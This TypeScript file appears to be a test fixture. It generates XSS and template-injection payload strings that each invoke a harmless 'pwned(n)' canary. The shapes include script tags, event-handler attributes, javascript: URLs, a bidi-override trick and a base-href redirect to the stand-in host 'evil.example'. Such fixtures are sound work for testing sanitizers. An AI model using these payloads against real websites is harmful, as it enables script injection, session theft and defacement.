/** Text that would do something if any place took it for more than text. Each calls `pwned(n)` in its own way. */
const shapes: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><img src=x onerror=${call}>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `javascript:${call}`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `<style>@import "javascript:${call}";</style>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<math><mi xlink:href="data:text/html,<script>${call}</script>">`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `'-${call}-'`,
  (call) => `";${call};//`,
  (call) => `<base href="//evil.example/"><link rel=stylesheet href="//evil.example/${call}">`,
  (call) => `<form action=javascript:${call}><button autofocus>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `\u202E${call}\u202C<b>`,
  (call) => `%3Cscript%3E${call}%3C/script%3E&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `<!--><script>${call}</script>-->`,
];

/** So many of them, each its own. */
export function hostileTexts(count: number): readonly string[] {
  return Array.from({ length: count }, (_, index) => {
    const shape = shapes[index % shapes.length] ?? String;
    return shape(`pwned(${index})`);
  });
}
